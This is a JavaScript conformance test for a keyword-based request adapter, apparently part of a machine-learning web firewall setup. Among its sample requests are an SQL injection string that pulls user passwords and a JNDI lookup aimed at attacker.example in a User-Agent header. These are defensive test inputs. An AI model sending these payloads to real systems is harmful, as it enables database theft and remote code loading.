'use strict';
// The SDK's conformance suite for the adapter: `node --test` runs it (Node 20+, nothing to install
// beyond crs-ml-server), and so does jest (`npx jest`).
const path = require('node:path');
const { describeAdapterConformance } = require('crs-ml-server');
const { KeywordAdapter } = require('../saved_models/adapters/keyword-adapter.js');

/** A parsed request, as the server hands it to the adapter (docs/contract.md in crs-ml-server). */
const request = (args, extra = {}) => ({ method: 'GET', path: '/search', args, files: [], sizes: [], hour: 12, day: 1, ...extra });

describeAdapterConformance({
  adapter: KeywordAdapter,
  modelsDir: path.join(__dirname, '..', 'saved_models'),
  requests: [
    request([['ARGS:q', 'blue running shoes']]),
    request([['ARGS:name', "O'Brien"], ['ARGS:page', '2']]),
    request([['ARGS:id', "1' UNION SELECT password FROM users--"]]),
    request([], { version: 2, headers: [['REQUEST_HEADERS:User-Agent', '${jndi:ldap://attacker.example/a}']] }),
  ],
});
